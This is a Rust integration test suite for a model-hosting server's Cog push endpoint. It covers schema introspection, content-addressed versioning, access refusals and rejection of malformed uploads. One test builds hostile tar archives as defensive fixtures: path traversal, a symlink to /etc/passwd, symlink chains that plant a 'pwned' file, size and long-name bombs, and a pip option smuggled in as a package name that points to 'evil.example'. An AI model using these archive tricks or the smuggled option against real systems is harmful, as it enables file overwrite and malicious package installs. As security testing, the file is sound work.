//! Pushing Cog projects: real introspection by Cog's Python package, content-addressed
//! versions, and bad uploads refused with nothing left behind.
mod common;

use std::path::{Path, PathBuf};

use common::{start, start_with, Backend, Server};
use reqwest::{Method, StatusCode};
use serde_json::json;

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures/cog")
        .join(name)
}

fn gzip(tar: Vec<u8>) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, &tar).unwrap();
    gz.finish().unwrap()
}

fn pack_dir(dir: &Path) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    b.append_dir_all(".", dir).unwrap();
    gzip(b.into_inner().unwrap())
}

/// An archive with raw entries, as a hostile client would write them.
fn pack_raw(entries: &[(&str, tar::EntryType, &[u8], &str)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, kind, data, link) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(*kind);
        h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        if !link.is_empty() {
            h.set_link_name(link).unwrap();
        }
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    gzip(b.into_inner().unwrap())
}

async fn upload(s: &Server, who: &str, model: &str, body: Vec<u8>) -> common::Reply {
    let resp = s
        .http
        .post(format!("{}/v1/models/{model}/versions", s.url))
        .bearer_auth(&s.tokens[who])
        .header("content-type", "application/gzip")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let body = resp.json().await.unwrap_or(serde_json::Value::Null);
    common::Reply {
        status,
        headers,
        body,
    }
}

/// An upload over a raw socket: the server answers an oversized body before reading all of it
/// and closes, which an HTTP client may report as a broken pipe instead of the answer.
async fn raw_upload(s: &Server, model: &str, body: Vec<u8>) -> common::Reply {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let addr = s.url.trim_start_matches("http://").to_string();
    let sock = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let (mut rd, mut wr) = sock.into_split();
    let head = format!(
        "POST /v1/models/{model}/versions HTTP/1.1\r\nhost: {addr}\r\nauthorization: Bearer {}\r\n\
         content-type: application/gzip\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
        s.tokens["alice"],
        body.len()
    );
    let writer = tokio::spawn(async move {
        let _ = wr.write_all(head.as_bytes()).await;
        let _ = wr.write_all(&body).await;
        wr
    });
    let mut raw = Vec::new();
    let _ =
        tokio::time::timeout(std::time::Duration::from_secs(30), rd.read_to_end(&mut raw)).await;
    drop(writer);
    let text = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let code: u16 = head
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let mut headers = reqwest::header::HeaderMap::new();
    for line in head.lines().skip(1) {
        if let Some((k, v)) = line.split_once(':') {
            if let (Ok(k), Ok(v)) = (
                reqwest::header::HeaderName::from_bytes(k.trim().as_bytes()),
                reqwest::header::HeaderValue::from_str(v.trim()),
            ) {
                headers.insert(k, v);
            }
        }
    }
    // The body may be chunked: take the JSON object inside it.
    let json = body
        .find('{')
        .and_then(|i| body.rfind('}').map(|j| &body[i..=j]))
        .unwrap_or("null");
    common::Reply {
        status: StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR),
        headers,
        body: serde_json::from_str(json).unwrap_or(serde_json::Value::Null),
    }
}

fn leftovers(s: &Server) -> Vec<String> {
    let dir = s.state.config.data_dir.join("tmp");
    std::fs::read_dir(dir)
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Whether a file called `name` is anywhere under `dir` (links are not followed).
fn find_named(dir: &Path, name: &str) -> bool {
    std::fs::read_dir(dir)
        .into_iter()
        .flatten()
        .flatten()
        .any(|e| {
            e.file_name() == name
                || (e.file_type().is_ok_and(|t| t.is_dir()) && find_named(&e.path(), name))
        })
}

fn artifacts(s: &Server) -> usize {
    std::fs::read_dir(s.state.artifacts_dir())
        .map(|d| d.count())
        .unwrap_or(0)
}

async fn push_reads_the_real_schema_and_is_idempotent(b: Backend) {
    let s = start(b).await;
    s.create_model("alice", "alice", "echo", "private").await;
    s.create_model("alice", "alice", "echo-copy", "private")
        .await;
    let r = upload(&s, "alice", "alice/echo", pack_dir(&fixture("echo"))).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let id = r.body["id"].as_str().unwrap().to_string();
    assert!(
        id.len() == 64
            && id
                .bytes()
                .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase())
    );
    assert!(r.body["cog_version"].as_str().unwrap().starts_with("0.23"));
    let input = &r.body["openapi_schema"]["components"]["schemas"]["Input"];
    assert_eq!(input["properties"]["prompt"]["type"], "string");
    assert_eq!(
        input["properties"]["prompt"]["description"],
        "What to greet"
    );
    assert_eq!(input["properties"]["repeat"]["minimum"], 1);
    assert_eq!(input["properties"]["repeat"]["maximum"], 5);
    assert_eq!(input["properties"]["repeat"]["default"], 1);
    assert_eq!(input["required"], json!(["prompt"]));
    assert_eq!(
        r.body["openapi_schema"]["components"]["schemas"]["Output"]["type"],
        "string"
    );

    // The same content again: the same version, no duplicate.
    let again = upload(&s, "alice", "alice/echo", pack_dir(&fixture("echo"))).await;
    assert_eq!(again.status, StatusCode::OK);
    assert_eq!(again.body["id"], id.as_str());
    let list = s.get("alice", "/v1/models/alice/echo/versions").await;
    assert_eq!(list.body["results"].as_array().unwrap().len(), 1);
    let m = s.get("alice", "/v1/models/alice/echo").await;
    assert_eq!(m.body["latest_version"]["id"], id.as_str());

    // Other content is another version; the same content in another model another id.
    let other = upload(&s, "alice", "alice/echo", pack_dir(&fixture("echo2"))).await;
    assert_eq!(other.status, StatusCode::CREATED);
    assert_ne!(other.body["id"], id.as_str());
    let copy = upload(&s, "alice", "alice/echo-copy", pack_dir(&fixture("echo"))).await;
    assert_eq!(copy.status, StatusCode::CREATED);
    assert_ne!(copy.body["id"], id.as_str());
    assert_eq!(artifacts(&s), 2, "identical content is stored once");

    // Inputs are validated against that schema; nothing is recorded for a bad one.
    let bare = json!({"version": id, "input": {"prompt": "you"}});
    let p = s
        .call("alice", Method::POST, "/v1/predictions", Some(bare))
        .await;
    assert_eq!(p.status, StatusCode::CREATED, "{:?}", p.body);
    assert_eq!(p.body["status"], "starting");
    assert_eq!(p.body["model"], "alice/echo");
    let bad = json!({"version": format!("alice/echo:{id}"), "input": {"repeat": 9, "prompt": 3}});
    let p = s
        .call("alice", Method::POST, "/v1/predictions", Some(bad))
        .await;
    assert_eq!(p.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", p.body);
    let mut fields: Vec<&str> = p.body["invalid_fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["field"].as_str().unwrap())
        .collect();
    fields.sort();
    assert_eq!(fields, ["input.prompt", "input.repeat"]);
    let missing = json!({"version": format!("alice/echo:{id}"), "input": {}});
    let p = s
        .call("alice", Method::POST, "/v1/predictions", Some(missing))
        .await;
    assert_eq!(
        p.body["invalid_fields"][0]["type"], "required",
        "{:?}",
        p.body
    );
    let list = s.get("alice", "/v1/predictions").await;
    assert_eq!(list.body["results"].as_array().unwrap().len(), 1);

    // Deleting frees the artifact only when no version uses it any more.
    let del = |m: &str, v: &str| format!("/v1/models/{m}/versions/{v}");
    let copy_id = copy.body["id"].as_str().unwrap();
    let r = s
        .call(
            "alice",
            Method::DELETE,
            &del("alice/echo-copy", copy_id),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert_eq!(artifacts(&s), 2);
    let r = s
        .call("alice", Method::DELETE, &del("alice/echo", &id), None)
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert_eq!(artifacts(&s), 1);
    assert!(leftovers(&s).is_empty());
}

async fn pushes_by_others_are_refused(b: Backend) {
    let s = start(b).await;
    s.create_model("alice", "alice", "secret", "private").await;
    s.create_model("alice", "alice", "open", "public").await;
    let r = upload(&s, "bob", "alice/secret", pack_dir(&fixture("echo"))).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let r = upload(&s, "bob", "alice/open", pack_dir(&fixture("echo"))).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(artifacts(&s), 0);
}

/// Bytes gzip cannot shrink (a simple xorshift stream).
fn incompressible(n: usize) -> Vec<u8> {
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

async fn bad_uploads_leave_nothing_behind(b: Backend) {
    let s = start_with(b, |c| c.max_upload_bytes = 64 * 1024).await;
    s.create_model("alice", "alice", "m", "private").await;
    let cog = b"predict: \"predict.py:Predictor\"\n".as_slice();
    let file = tar::EntryType::Regular;
    let cases: Vec<(&str, Vec<u8>, StatusCode, &str)> = vec![
        (
            "no cog.yaml",
            pack_raw(&[("predict.py", file, b"x = 1\n", "")]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "cog.yaml",
        ),
        (
            "broken predictor",
            pack_dir(&fixture("broken")),
            StatusCode::UNPROCESSABLE_ENTITY,
            "this_module_does_not_exist",
        ),
        (
            "path traversal",
            pack_raw(&[("cog.yaml", file, cog, ""), ("../evil.py", file, b"x", "")]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "outside",
        ),
        (
            "absolute path",
            pack_raw(&[("/tmp/evil.py", file, b"x", "")]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "outside",
        ),
        (
            "link outside",
            pack_raw(&[
                ("cog.yaml", file, cog, ""),
                ("predict.py", tar::EntryType::Symlink, b"", "/etc/passwd"),
            ]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "outside",
        ),
        (
            "too large unpacked",
            pack_raw(&[
                ("cog.yaml", file, cog, ""),
                ("big.bin", file, &vec![0u8; 200 * 1024], ""),
            ]),
            StatusCode::PAYLOAD_TOO_LARGE,
            "limit",
        ),
        (
            "too large upload",
            // Incompressible, so the compressed stream itself crosses the cap while it arrives.
            // (Bytes that are no archive at all are a 422 at once, whatever their size.)
            pack_raw(&[
                ("cog.yaml", file, cog, ""),
                ("weights.bin", file, &incompressible(400_000), ""),
            ]),
            StatusCode::PAYLOAD_TOO_LARGE,
            "limit",
        ),
        (
            "not an archive",
            b"hello".to_vec(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "gzip",
        ),
        (
            "a chain of links, each inside alone, then a file through the last",
            pack_raw(&[
                ("cog.yaml", file, cog, ""),
                ("sub/up", tar::EntryType::Symlink, b"", ".."),
                ("esc", tar::EntryType::Symlink, b"", "sub/up/../../../.."),
                ("esc/pwned", file, b"pwned", ""),
            ]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "esc",
        ),
        (
            "a link, then a file of the same name",
            pack_raw(&[
                ("cog.yaml", file, cog, ""),
                ("up", tar::EntryType::Symlink, b"", "."),
                ("pwned", tar::EntryType::Symlink, b"", "up/../.."),
                ("pwned", file, b"pwned", ""),
            ]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "pwned",
        ),
        (
            "a GNU long name that claims a gigabyte",
            {
                let mut h = tar::Header::new_gnu();
                h.set_size(1 << 30);
                h.set_entry_type(tar::EntryType::GNULongName);
                h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
                h.set_cksum();
                gzip(h.as_bytes().to_vec())
            },
            StatusCode::PAYLOAD_TOO_LARGE,
            "long name",
        ),
        (
            "python_packages that are pip options",
            pack_raw(&[
                (
                    "cog.yaml",
                    file,
                    b"build:\n  python_packages:\n    - six\n    - \"--index-url=https://evil.example/simple\"\npredict: \"predict.py:Predictor\"\n",
                    "",
                ),
                ("predict.py", file, b"x = 1\n", ""),
            ]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "--index-url=https://evil.example/simple",
        ),
        (
            "missing predictor file",
            pack_raw(&[("cog.yaml", file, cog, "")]),
            StatusCode::UNPROCESSABLE_ENTITY,
            "predict.py",
        ),
    ];
    for (what, body, status, says) in cases {
        let r = if body.len() > 64 * 1024 {
            raw_upload(&s, "alice/m", body).await
        } else {
            upload(&s, "alice", "alice/m", body).await
        };
        assert_eq!(r.status, status, "{what}: {:?}", r.body);
        assert_eq!(
            r.headers["content-type"], "application/problem+json",
            "{what}"
        );
        let detail = r.body["detail"].as_str().unwrap_or_default();
        assert!(detail.contains(says), "{what}: {detail}");
        assert!(leftovers(&s).is_empty(), "{what} left {:?}", leftovers(&s));
        let outside = s.state.config.data_dir.parent().unwrap();
        assert!(
            !find_named(outside, "pwned"),
            "{what} wrote a file through a link"
        );
    }
    let wrong_type = s
        .http
        .post(format!("{}/v1/models/alice/m/versions", s.url))
        .bearer_auth(&s.tokens["alice"])
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    assert_eq!(wrong_type.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(artifacts(&s), 0);
    let list = s.get("alice", "/v1/models/alice/m/versions").await;
    assert_eq!(list.body["results"], json!([]));
}

both_backends!(
    push_reads_the_real_schema_and_is_idempotent,
    pushes_by_others_are_refused,
    bad_uploads_leave_nothing_behind,
);
